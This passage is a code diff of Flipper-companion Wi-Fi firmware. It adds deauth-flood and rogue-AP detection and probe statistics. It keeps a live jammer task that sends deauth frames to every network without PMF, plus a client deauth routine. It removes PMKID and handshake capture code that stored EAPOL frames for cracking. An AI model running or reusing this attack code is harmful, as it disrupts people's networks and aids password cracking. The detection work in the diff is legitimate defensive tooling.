+        flash_stream_write(&baselineFlash, addr + headerLen, len - headerLen,
+                           (uint8_t*)buf + headerLen) != 1) {
+        return false;
     }
+    return flash_stream_write(&baselineFlash, addr, headerLen, (uint8_t*)buf) == 1;
+}
+
+// Format: type|mac|channel|count|reason|target (mac is the BSSID, or the
+// claimed transmitter for SRC_FLOOD, SPOOFED and a source's FLOOD_END)
+void onDeauthAlert(const DeauthAlert* alert) {
+    char macStr[MAC_STR_LEN], targetStr[MAC_STR_LEN];
+    formatMac(macStr, alert->mac);
+    formatMac(targetStr, alert->target);
+    String data = String(deauthAlertName(alert->type)) + String((char)SEP) +
+                  macStr + String((char)SEP) +
+                  String(alert->channel) + String((char)SEP) +
+                  String(alert->count) + String((char)SEP) +
+                  String(alert->reason) + String((char)SEP) +
+                  targetStr;
+    sendResponse('!', data);
+    LOG_WARN("ALERT: %s %s ch%d (%d frames)", deauthAlertName(alert->type), macStr,
+             alert->channel, alert->count);
+}
+
+// Format: type|bssid|channel|ssid|expected|observed
+void onRogueAlert(const RogueAlert* alert) {
+    char macStr[MAC_STR_LEN];
+    formatMac(macStr, alert->bssid);
+    String data = String(rogueAlertName(alert->type)) + String((char)SEP) +
+                  macStr + String((char)SEP) +
+                  String(alert->channel) + String((char)SEP) +
+                  alert->ssid + String((char)SEP) +
+                  String(alert->expected) + String((char)SEP) +
+                  String(alert->observed);
+    sendResponse('!', data);
+    LOG_WARN("ALERT: %s %s (%s)", rogueAlertName(alert->type), macStr, alert->ssid);
 }
 
 // ============== Utility Functions ==============
 
+// Cold paths only (list replies, captures) - the frame path uses MacKey
 String macToString(uint8_t* mac) {
-    String result = "";
-    for (int i = 0; i < 6; i++) {
-        if (mac[i] < 16) result += "0";
-        result += String(mac[i], HEX);
-        if (i < 5) result += ":";
-    }
-    result.toUpperCase();
-    return result;
+    char buf[MAC_STR_LEN];
+    formatMac(buf, mac);
+    return String(buf);
 }
 
 void stringToMac(String str, uint8_t* mac) {
@@ -2339,19 +2945,10 @@ void stringToMac(String str, uint8_t* mac) {
     }
 }
 
+// Named from the individual bits rather than whole SDK enum values, so
+// enterprise, transition and cipher-mixed networks get a real name too
 String getSecurityString(uint32_t security) {
-    switch (security) {
-        case SECURITY_OPEN: return "Open";
-        case SECURITY_WEP_PSK: return "WEP";
-        case SECURITY_WPA_TKIP_PSK: return "WPA";
-        case SECURITY_WPA_AES_PSK: return "WPA";
-        case SECURITY_WPA2_AES_PSK: return "WPA2";
-        case SECURITY_WPA2_TKIP_PSK: return "WPA2";
-        case SECURITY_WPA2_MIXED_PSK: return "WPA2";
-        case SECURITY_WPA_WPA2_MIXED: return "WPA/WPA2";
-        case 8388612: return "WPA3";
-        default: return "Unknown";
-    }
+    return String(securityName(security));
 }
 
 String generateRandomString(int len) {
@@ -2373,50 +2970,7 @@ uint32_t stringHash(const String& str) {
 
 // Check if security type has PMF (Protected Management Frames)
 bool hasPMF(uint32_t security) {
-    // WPA3 always has PMF required (WPA3_SECURITY = 0x00800000)
-    if (security & 0x00800000) return true;
-    // WPA2 with MFP/CMAC enabled (AES_CMAC_ENABLED = 0x0010)
-    if (security & 0x0010) return true;
-    return false;
-}
-
-// Sort networks: named networks with clients first, then by RSSI
-void sortNetworks() {
-    // Simple bubble sort - small list so OK
-    for (size_t i = 0; i < networks.size(); i++) {
-        for (size_t j = i + 1; j < networks.size(); j++) {
-            bool swap = false;
-
-            // Priority: named > hidden
-            if (networks[i].hidden && !networks[j].hidden) {
-                swap = true;
-            }
-            // Then: has clients > no clients
-            else if (!networks[i].hidden && !networks[j].hidden) {
-                if (networks[i].client_count == 0 && networks[j].client_count > 0) {
-                    swap = true;
-                }
-                // Then: no PMF > has PMF (attackable first)
-                else if (networks[i].client_count == networks[j].client_count) {
-                    if (networks[i].has_pmf && !networks[j].has_pmf) {
-                        swap = true;
-                    }
-                    // Finally: by signal strength
-                    else if (networks[i].has_pmf == networks[j].has_pmf) {
-                        if (networks[i].rssi < networks[j].rssi) {
-                            swap = true;
-                        }
-                    }
-                }
-            }
-
-            if (swap) {
-                WiFiNetwork temp = networks[i];
-                networks[i] = networks[j];
-                networks[j] = temp;
-            }
-        }
-    }
+    return securityHasPmf(security);
 }
 
 // ============== LED Effects ==============
@@ -2562,15 +3116,10 @@ void playMorseChar(char c, bool vowel) {
         morse = morseCode[26 + (c - '0')];
     } else {
         // Space or unknown - just pause
-        Serial.print(" ");
         delay(ditTime * 4);
         return;
     }
 
-    // Print character and its morse code
-    Serial.print(c);
-    Serial.print(":");
-
     // Set color: cyan for vowels, purple for consonants
     uint8_t r = vowel ? 0 : 255;
     uint8_t g = vowel ? 255 : 0;
@@ -2578,7 +3127,6 @@ void playMorseChar(char c, bool vowel) {
 
     const char* m = morse;
     while (*m) {
-        Serial.print(*m);
         setRGB(r, g, b);
         if (*m == '.') {
             delay(ditTime);
@@ -2589,7 +3137,6 @@ void playMorseChar(char c, bool vowel) {
         delay(elementGap);
         m++;
     }
-    Serial.print(" ");
 }
 
 void playMorsePeriod() {
@@ -2599,21 +3146,18 @@ void playMorsePeriod() {
     const int elementGap = ditTime;
     const char* morse = ".-.-.-";
 
-    Serial.print(".:");
     while (*morse) {
-        Serial.print(*morse);
         setRGB(255, 255, 255);  // White for punctuation
         delay(*morse == '.' ? ditTime : dahTime);
         setRGB(0, 0, 0);
         delay(elementGap);
         morse++;
     }
-    Serial.print(" ");
 }
 
 void playMorseBootSequence() {
-    Serial.println("MORSE: ");
     const char* message = "GATTROSE NG 2.1";
+    LOG_DEBUG("Morse: %s", message);
     const int letterGap = 60 * 2;  // Gap between letters
 
     for (int i = 0; message[i] != '\0'; i++) {
@@ -2628,7 +3172,6 @@ void playMorseBootSequence() {
             delay(letterGap);
         }
     }
-    Serial.println();  // Newline after morse
     // Explicitly clear all LEDs (active LOW: HIGH = off)
     digitalWrite(LED_R, LOW);
     digitalWrite(LED_G, LOW);
@@ -2641,14 +3184,12 @@ void playMorseBootSequence() {
 void startClientDeauth(uint8_t* clientMac, int reason) {
     // Find which AP this client belongs to
     int apIndex = -1;
-    for (size_t i = 0; i < clients.size(); i++) {
-        if (memcmp(clients[i].mac, clientMac, 6) == 0) {
-            apIndex = clients[i].ap_index;
-            break;
-        }
+    int cli = findClient(macToKey(clientMac));
+    if (cli >= 0) {
+        apIndex = clients[cli].ap_index;
     }
 
-    if (apIndex < 0 || apIndex >= (int)networks.size()) {
+    if (!isActiveNetwork(apIndex)) {
         sendResponse('e', "CLIENT_NOT_FOUND");
         return;
     }
@@ -2662,58 +3203,68 @@ void startClientDeauth(uint8_t* clientMac, int reason) {
 // Task handle for jammer
 TaskHandle_t jammerTask = NULL;
 
-// --- Probe Logger ---
+// --- Probe Analytics ---
+// Recording runs in the capture worker via onProbeSsid(); the replies here
+// read the sketches without locking, so they can be a probe behind.
 void cmd_probe_log(char* args) {
     if (args[0] == SEP) args++;
     if (args[0] == '1') {
+        probeLogActive = false;
+        probeStatsClear(&probeStats, millis());
         probeLogActive = true;
-        probeLog.clear();
+        startPromisc();
         sendResponse('P', "PROBE_LOG_ON");
     } else if (args[0] == '0') {
         probeLogActive = false;
         sendResponse('P', "PROBE_LOG_OFF");
     } else if (args[0] == 'g') {
-        sendProbeLog();
+        sendProbeSummary();
+    } else if (args[0] == 'w') {
+        sendProbeWindows();
     } else if (args[0] == 'c') {
-        probeLog.clear();
+        bool wasActive = probeLogActive;
+        probeLogActive = false;
+        probeStatsClear(&probeStats, millis());
+        probeLogActive = wasActive;
         sendResponse('P', "PROBE_LOG_CLEARED");
     }
 }
 
-void sendProbeLog() {
-    sendResponse('P', "COUNT:" + String(probeLog.size()));
-    for (size_t i = 0; i < probeLog.size(); i++) {
-        ProbeLogEntry& e = probeLog[i];
-        String mac = macToString(e.client_mac);
-        String data = String(e.ssid) + String((char)SEP) + mac + String((char)SEP) + String(e.rssi);
-        sendResponse('P', data);
+// DEVICES:<n>|SSIDS:<n>|PAIRS:<n>|PROBES:<n>|DIRECTED:<n>|FILL:<pct>|RESETS:<n>|SECS:<n>,
+// then COUNT:<k> and k records ssid|devices, most devices first
+void sendProbeSummary() {
+    ProbeStats& ps = probeStats;
+    sendResponse('P', "DEVICES:" + String(probeStatsDevices(&ps)) +
+                      "|SSIDS:" + String(probeStatsSsids(&ps)) +
+                      "|PAIRS:" + String(ps.pairs) +
+                      "|PROBES:" + String(ps.probes) +
+                      "|DIRECTED:" + String(ps.directed) +
+                      "|FILL:" + String(probeStatsBloomFill(&ps)) +
+                      "|RESETS:" + String(ps.bloom_resets) +
+                      "|SECS:" + String((millis() - ps.started_at) / 1000));
+
+    ProbeTopEntry top[PS_TOP_K];
+    int count = probeStatsTop(&ps, top, PS_TOP_K);
+    sendResponse('P', "COUNT:" + String(count));
+    for (int i = 0; i < count; i++) {
+        sendResponse('P', String(top[i].ssid) + String((char)SEP) + String(top[i].devices));
     }
 }
 
-void addProbeLogEntry(const char* ssid, uint8_t* mac, int8_t rssi) {
-    if (!probeLogActive) return;
-    if (strlen(ssid) == 0) return;  // Skip empty SSIDs
-
-    // Check for duplicate (same SSID + MAC)
-    for (size_t i = 0; i < probeLog.size(); i++) {
-        if (strcmp(probeLog[i].ssid, ssid) == 0 &&
-            memcmp(probeLog[i].client_mac, mac, 6) == 0) {
-            return;  // Already logged
-        }
+// COUNT:<n>, then per window, newest first: minutes_ago|probes|devices
+void sendProbeWindows() {
+    unsigned long now = millis();
+    uint32_t probes[PS_WINDOWS], devices[PS_WINDOWS];
+    int count = 0;
+    while (count < PS_WINDOWS &&
+           probeStatsWindow(&probeStats, count, now, &probes[count], &devices[count])) {
+        count++;
     }
 
-    if (probeLog.size() < 100) {  // Limit size
-        ProbeLogEntry entry;
-        strncpy(entry.ssid, ssid, 32);
-        entry.ssid[32] = '\0';
-        memcpy(entry.client_mac, mac, 6);
-        entry.rssi = rssi;
-        entry.timestamp = millis();
-        probeLog.push_back(entry);
-
-        // Notify Flipper of new probe
-        String mac_str = macToString(mac);
-        sendResponse('P', String("NEW:") + ssid + String((char)SEP) + mac_str);
+    sendResponse('P', "COUNT:" + String(count) + "|WINDOW:" + String(PS_WINDOW_MS / 1000));
+    for (int i = 0; i < count; i++) {
+        sendResponse('P', String(i * (PS_WINDOW_MS / 60000)) + String((char)SEP) +
+                          String(probes[i]) + String((char)SEP) + String(devices[i]));
     }
 }
 
@@ -2857,13 +3408,17 @@ void jammerTaskFunc(void* params) {
     uint8_t broadcast[6] = {0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF};
     int netIndex = 0;
 
-    DEBUG_SER_PRINTLN("Jammer started - attacking all networks");
+    LOG_INFO("Jammer started - attacking all networks");
 
-    while (jammerActive && networks.size() > 0) {
+    while (jammerActive) {
+        // A scan on the capture worker may empty the table at any point
+        size_t count = networks.size();
+        if (count == 0) break;
+        if ((size_t)netIndex >= count) netIndex = 0;
         WiFiNetwork& net = networks[netIndex];
 
         // Skip PMF protected networks
-        if (!net.has_pmf) {
+        if (!net.vacant && !net.has_pmf) {
             wext_set_channel(WLAN0_NAME, net.channel);
 
             // Send multiple deauth frames
@@ -2872,16 +3427,20 @@ void jammerTaskFunc(void* params) {
             }
         }
 
-        netIndex = (netIndex + 1) % networks.size();
+        netIndex = (netIndex + 1) % count;
         vTaskDelay(50 / portTICK_PERIOD_MS);
     }
 
-    DEBUG_SER_PRINTLN("Jammer stopped");
+    LOG_INFO("Jammer stopped");
     jammerTask = NULL;
     vTaskDelete(NULL);
 }
 
 // --- Rogue AP Detector ---
+// Checking runs per frame in the capture worker (rogue_detect.cpp); the
+// baseline is only rebuilt while monitoring is off so the worker never
+// sees it half-written. R1 itself runs on the worker (cmdOnWorker), so the
+// network table can't change under it.
 void cmd_rogue_detector(char* args) {
     if (args[0] == SEP) args++;
     if (args[0] == '1') {
@@ -2890,256 +3449,162 @@ void cmd_rogue_detector(char* args) {
             sendResponse('e', "SCAN_FIRST");
             return;
         }
-        apBaseline.clear();
+        if (rogueDetector.active) {
+            sendResponse('e', "MONITORING_ACTIVE");
+            return;
+        }
+        rogueClearBaseline(&rogueDetector);
         for (size_t i = 0; i < networks.size(); i++) {
-            BaselineAP ap;
-            memcpy(ap.bssid, networks[i].bssid, 6);
-            strncpy(ap.ssid, networks[i].ssid.c_str(), 32);
-            ap.ssid[32] = '\0';
-            ap.channel = networks[i].channel;
-            apBaseline.push_back(ap);
-        }
-        DEBUG_SER_PRINT("Baseline set with ");
-        DEBUG_SER_PRINT(apBaseline.size());
-        DEBUG_SER_PRINTLN(" APs");
-        sendResponse('R', String("BASELINE_SET:") + String(apBaseline.size()));
+            if (networks[i].vacant) continue;
+            if (!rogueAddBaseline(&rogueDetector, networks[i].bssid,
+                                  networks[i].ssid, networks[i].channel)) break;
+        }
+        int count = rogueDetector.baseline.size();
+        LOG_INFO("Baseline set with %d APs", count);
+        saveRogueBaseline();
+        sendResponse('R', String("BASELINE_SET:") + String(count));
     } else if (args[0] == '2') {
-        // Start monitoring
-        if (apBaseline.size() == 0) {
+        // Start monitoring - needs beacons, so promiscuous mode comes on too
+        if (rogueDetector.baseline.size() == 0) {
             sendResponse('e', "SET_BASELINE_FIRST");
             return;
         }
-        rogueDetectorActive = true;
+        rogueStartMonitoring(&rogueDetector);
+        saveRogueBaseline();
+        startPromisc();
         sendResponse('R', "MONITORING_ON");
     } else if (args[0] == '0') {
-        rogueDetectorActive = false;
+        // Saving here also keeps the fingerprints learned while monitoring
+        rogueDetector.active = false;
+        saveRogueBaseline();
         sendResponse('R', "MONITORING_OFF");
+    } else if (args[0] == 'x') {
+        // Forget the stored copy; the one in RAM stays until reboot or R1
+        bool ok = baselineErase(&baselineStore);
+        sendResponse(ok ? 'R' : 'e', ok ? "STORE_ERASED" : "STORE_FAILED");
+    } else if (args[0] == 's') {
+        String data = String("ACTIVE:") + String(rogueDetector.active ? 1 : 0) +
+                      "|BASELINE:" + String((int)rogueDetector.baseline.size()) +
+                      "|FRAMES:" + String(rogueDetector.frames_checked) +
+                      "|ALERTS:";
+        for (int t = 0; t < RA_TYPES; t++) {
+            if (t) data += ',';
+            data += String(rogueDetector.alerts[t]);
+        }
+        data += "|SUPPRESSED:" + String(rogueDetector.suppressed) +
+                "|STORED:" + String(baselineStore.slot >= 0 ? baselineStore.generation : 0) +
+                "|WRITES:" + String(baselineStore.writes);
+        sendResponse('R', data);
     }
 }
 
-void checkForRogueAPs() {
-    if (!rogueDetectorActive || apBaseline.size() == 0) return;
-
-    for (size_t i = 0; i < networks.size(); i++) {
-        WiFiNetwork& net = networks[i];
-        bool found = false;
-        bool ssid_mismatch = false;
-        bool channel_mismatch = false;
-
-        for (size_t j = 0; j < apBaseline.size(); j++) {
-            if (memcmp(apBaseline[j].bssid, net.bssid, 6) == 0) {
-                found = true;
-                // Check for SSID change (possible evil twin)
-                if (strcmp(apBaseline[j].ssid, net.ssid.c_str()) != 0) {
-                    ssid_mismatch = true;
-                }
-                // Check for channel change
-                if (apBaseline[j].channel != net.channel) {
-                    channel_mismatch = true;
-                }
-                break;
-            }
-        }
-
-        if (!found) {
-            // New AP detected - check if SSID matches a baseline AP
-            bool ssid_exists = false;
-            for (size_t j = 0; j < apBaseline.size(); j++) {
-                if (strcmp(apBaseline[j].ssid, net.ssid.c_str()) == 0) {
-                    ssid_exists = true;
-                    break;
-                }
-            }
-            if (ssid_exists) {
-                // Possible evil twin - same SSID, different BSSID
-                String alert = "EVIL_TWIN:" + net.ssid + ":" + macToString(net.bssid);
-                sendResponse('!', alert);
-                DEBUG_SER_PRINTLN("ALERT: Possible evil twin detected: " + net.ssid);
-            } else {
-                // Just a new AP
-                String alert = "NEW_AP:" + net.ssid + ":" + macToString(net.bssid);
-                sendResponse('!', alert);
-                DEBUG_SER_PRINTLN("ALERT: New AP detected: " + net.ssid);
-            }
-        } else if (ssid_mismatch) {
-            String alert = "SSID_CHANGED:" + net.ssid + ":" + macToString(net.bssid);
-            sendResponse('!', alert);
-            DEBUG_SER_PRINTLN("ALERT: SSID changed on known BSSID: " + net.ssid);
-        } else if (channel_mismatch) {
-            String alert = "CHANNEL_CHANGED:" + net.ssid + ":ch" + String(net.channel);
-            sendResponse('!', alert);
-            DEBUG_SER_PRINTLN("ALERT: Channel changed: " + net.ssid);
-        }
+// Called from command handlers only. The worker may be learning
+// fingerprints meanwhile; each one is complete before fp_known is set, and
+// serializing reads fp_known first, so a half-learned entry goes out as unknown.
+void saveRogueBaseline() {
+    int rc = baselineSave(&baselineStore, &rogueDetector);
+    if (rc == BS_SAVED) {
+        LOG_INFO("Baseline saved to slot %d, generation %lu",
+                 baselineStore.slot, (unsigned long)baselineStore.generation);
+    } else if (rc == BS_FAILED) {
+        LOG_ERROR("Baseline save failed");
     }
 }
 
-// --- EAPOL Processing for PMKID/Handshake ---
-void processEAPOL(uint8_t* frame, int len, int rssi) {
-    // EAPOL frames have ethertype 0x888e
-    // In 802.11 data frames, check for LLC/SNAP header followed by 0x888e
-
-    if (len < 34) return;  // Too short
-
-    // Find EAPOL in frame (after 802.11 header + LLC/SNAP)
-    // LLC/SNAP: AA AA 03 00 00 00 88 8E
-    uint8_t* eapol_start = NULL;
-    for (int i = 24; i < len - 8; i++) {
-        if (frame[i] == 0xAA && frame[i+1] == 0xAA &&
-            frame[i+2] == 0x03 && frame[i+5] == 0x00 &&
-            frame[i+6] == 0x88 && frame[i+7] == 0x8E) {
-            eapol_start = frame + i + 8;
-            break;
+// --- Deauth Flood Monitor ---
+// Counting runs per frame in the capture worker (deauth_detect.cpp). Stats
+// and the table listing here read it without locking, so a record can be
+// one frame stale.
+void cmd_deauth_detector(char* args) {
+    if (args[0] == SEP) args++;
+    if (args[0] == '1') {
+        deauthDetector.active = true;
+        startPromisc();
+        sendResponse('D', "MONITORING_ON");
+    } else if (args[0] == '0') {
+        deauthDetector.active = false;
+        sendResponse('D', "MONITORING_OFF");
+    } else if (args[0] == 'c') {
+        if (deauthDetector.active) {
+            sendResponse('e', "MONITORING_ACTIVE");
+            return;
         }
-    }
-
-    if (!eapol_start) return;
-
-    // EAPOL-Key frame structure
-    // Byte 0: version
-    // Byte 1: type (3 = key)
-    // Bytes 2-3: length
-    // Byte 4: descriptor type (2 = RSN)
-    // Bytes 5-6: key info
-
-    if (eapol_start[1] != 0x03) return;  // Not EAPOL-Key
-
-    uint16_t key_info = (eapol_start[5] << 8) | eapol_start[6];
-    bool is_mic_set = (key_info & 0x0100) != 0;
-    bool is_ack_set = (key_info & 0x0080) != 0;
-    bool is_install = (key_info & 0x0040) != 0;
-
-    // Get addresses
-    uint8_t* addr1 = frame + 4;
-    uint8_t* addr2 = frame + 10;
-    uint8_t* addr3 = frame + 16;
-    uint8_t toDS = (frame[1] & 0x01);
-    uint8_t fromDS = (frame[1] & 0x02) >> 1;
-
-    uint8_t* ap_mac;
-    uint8_t* client_mac;
-    if (toDS && !fromDS) {
-        client_mac = addr2;
-        ap_mac = addr1;
-    } else if (!toDS && fromDS) {
-        client_mac = addr1;
-        ap_mac = addr2;
+        deauthClear(&deauthDetector);
+        sendResponse('D', "CLEARED");
+    } else if (args[0] == 't') {
+        int threshold = atoi(args + 1);
+        if (threshold >= 2 && threshold <= 0xFFFF) deauthDetector.flood_threshold = threshold;
+        sendResponse('D', "THRESHOLD:" + String(deauthDetector.flood_threshold));
+    } else if (args[0] == 'l') {
+        sendDeauthTable();
     } else {
-        return;
-    }
-
-    // Determine message number
-    int msg_num = 0;
-    if (is_ack_set && !is_mic_set) msg_num = 1;
-    else if (!is_ack_set && is_mic_set && !is_install) msg_num = 2;
-    else if (is_ack_set && is_mic_set && is_install) msg_num = 3;
-    else if (!is_ack_set && is_mic_set && !is_install) msg_num = 4;
-
-    if (msg_num == 0) return;
-
-    // Find network SSID
-    String ssid = "";
-    for (size_t i = 0; i < networks.size(); i++) {
-        if (memcmp(networks[i].bssid, ap_mac, 6) == 0) {
-            ssid = networks[i].ssid;
-            break;
-        }
-    }
-
-    DEBUG_SER_PRINT("EAPOL M");
-    DEBUG_SER_PRINT(msg_num);
-    DEBUG_SER_PRINT(" from ");
-    DEBUG_SER_PRINTLN(ssid);
-
-    // PMKID extraction from Message 1
-    if (pmkidCaptureActive && msg_num == 1) {
-        // PMKID is in RSN IE at end of EAPOL-Key frame
-        // Look for RSN IE (tag 0x30) with PMKID
-        int key_data_len = (eapol_start[97] << 8) | eapol_start[98];
-        uint8_t* key_data = eapol_start + 99;
-
-        for (int i = 0; i < key_data_len - 22; i++) {
-            // Look for PMKID KDE: 0xDD 0x14 0x00 0x0F 0xAC 0x04 + 16 bytes PMKID
-            if (key_data[i] == 0xDD && key_data[i+1] == 0x14 &&
-                key_data[i+2] == 0x00 && key_data[i+3] == 0x0F &&
-                key_data[i+4] == 0xAC && key_data[i+5] == 0x04) {
-
-                // Found PMKID!
-                PMKIDEntry entry;
-                memcpy(entry.pmkid, key_data + i + 6, 16);
-                memcpy(entry.ap_mac, ap_mac, 6);
-                memcpy(entry.client_mac, client_mac, 6);
-                strncpy(entry.ssid, ssid.c_str(), 32);
-                entry.ssid[32] = '\0';
-                entry.valid = true;
-
-                // Check for duplicate
-                bool exists = false;
-                for (size_t j = 0; j < pmkidList.size(); j++) {
-                    if (memcmp(pmkidList[j].pmkid, entry.pmkid, 16) == 0) {
-                        exists = true;
-                        break;
-                    }
-                }
-
-                if (!exists && pmkidList.size() < 20) {
-                    pmkidList.push_back(entry);
-                    sendResponse('h', "CAPTURED:" + ssid);
-                    DEBUG_SER_PRINTLN("PMKID captured!");
-                }
-                break;
-            }
+        DeauthDetector& dd = deauthDetector;
+        String data = String("ACTIVE:") + String(dd.active ? 1 : 0) +
+                      "|THRESHOLD:" + String(dd.flood_threshold) +
+                      "|FRAMES:" + String(dd.frames) +
+                      "|DEAUTH:" + String(dd.deauth) +
+                      "|DISASSOC:" + String(dd.disassoc) +
+                      "|BCAST:" + String(dd.broadcast) +
+                      "|SPOOF:" + String(dd.spoof_indicators) +
+                      "|BSSIDS:" + String((int)dd.bssids.size()) +
+                      "|SOURCES:" + String((int)dd.sources.size()) +
+                      "|EVICTED:" + String(dd.evicted) +
+                      "|ALERTS:";
+        for (int t = 0; t < DA_TYPES; t++) {
+            if (t) data += ',';
+            data += String(dd.alerts[t]);
         }
+        sendResponse('D', data);
     }
+}
 
-    // Handshake capture
-    if (handshakeCaptureActive && msg_num >= 1 && msg_num <= 4) {
-        // Find or create handshake entry
-        HandshakeEntry* hs = NULL;
-        for (size_t i = 0; i < handshakeList.size(); i++) {
-            if (memcmp(handshakeList[i].ap_mac, ap_mac, 6) == 0 &&
-                memcmp(handshakeList[i].client_mac, client_mac, 6) == 0) {
-                hs = &handshakeList[i];
-                break;
-            }
-        }
-
-        if (!hs && handshakeList.size() < 10) {
-            HandshakeEntry newEntry;
-            memset(&newEntry, 0, sizeof(newEntry));
-            memcpy(newEntry.ap_mac, ap_mac, 6);
-            memcpy(newEntry.client_mac, client_mac, 6);
-            strncpy(newEntry.ssid, ssid.c_str(), 32);
-            handshakeList.push_back(newEntry);
-            hs = &handshakeList[handshakeList.size() - 1];
+// Every tracked BSSID, then every source: COUNT:<n>, then
+// kind|mac|channel|window|deauth|disassoc|broadcast|reason|flooding
+// Binary 'D' record: kind u8 | mac[6] | channel u8 | window u16 | deauth u32 |
+// disassoc u32 | broadcast u32 | reason u16 | flooding u8
+void sendDeauthTable() {
+    DeauthDetector& dd = deauthDetector;
+    unsigned long now = millis();
+    int bssids = dd.bssids.size();
+    int sources = dd.sources.size();
+    sendResponse('D', "COUNT:" + String(bssids + sources));
+
+    for (int i = 0; i < bssids + sources; i++) {
+        bool source = (i >= bssids);
+        const DeauthTrack& t = source ? dd.sources[i - bssids] : dd.bssids[i];
+        char kind = source ? 'S' : 'B';
+        uint8_t mac[6];
+        keyToMac(t.key, mac);
+        int window = deauthWindowCount(&t, now);
+
+        if (binaryProto) {
+            uint8_t payload[25];
+            ProtoBuf pb;
+            protoBufInit(&pb, payload, sizeof(payload));
+            protoPutU8(&pb, kind);
+            protoPutBytes(&pb, mac, 6);
+            protoPutU8(&pb, t.channel);
+            protoPutU16(&pb, window);
+            protoPutU32(&pb, t.deauth);
+            protoPutU32(&pb, t.disassoc);
+            protoPutU32(&pb, t.broadcast);
+            protoPutU16(&pb, t.last_reason);
+            protoPutU8(&pb, t.flooding ? 1 : 0);
+            sendFrame('D', payload, pb.len);
+            continue;
         }
 
-        if (hs && !hs->complete) {
-            hs->msg_mask |= (1 << (msg_num - 1));
-
-            // Extract nonces from messages
-            if (msg_num == 1 || msg_num == 3) {
-                // ANonce at offset 17-48
-                memcpy(hs->anonce, eapol_start + 17, 32);
-            }
-            if (msg_num == 2) {
-                // SNonce at offset 17-48
-                memcpy(hs->snonce, eapol_start + 17, 32);
-                // MIC at offset 81-96
-                memcpy(hs->mic, eapol_start + 81, 16);
-                // Store EAPOL frame for cracking
-                int eapol_len = 99 + ((eapol_start[97] << 8) | eapol_start[98]);
-                if (eapol_len < 256) {
-                    memcpy(hs->eapol_frame, eapol_start, eapol_len);
-                    hs->eapol_len = eapol_len;
-                }
-            }
-
-            // Check if complete (have M1+M2 or M2+M3)
-            if ((hs->msg_mask & 0x03) == 0x03 || (hs->msg_mask & 0x06) == 0x06) {
-                hs->complete = true;
-                sendResponse('H', "CAPTURED:" + ssid);
-                DEBUG_SER_PRINTLN("Handshake captured!");
-            }
-        }
+        char macStr[MAC_STR_LEN];
+        formatMac(macStr, mac);
+        String data = String(kind) + String((char)SEP) +
+                      macStr + String((char)SEP) +
+                      String(t.channel) + String((char)SEP) +
+                      String(window) + String((char)SEP) +
+                      String(t.deauth) + String((char)SEP) +
+                      String(t.disassoc) + String((char)SEP) +
+                      String(t.broadcast) + String((char)SEP) +
+                      String(t.last_reason) + String((char)SEP) +
+                      String(t.flooding ? 1 : 0);
+        sendResponse('D', data);
     }
 }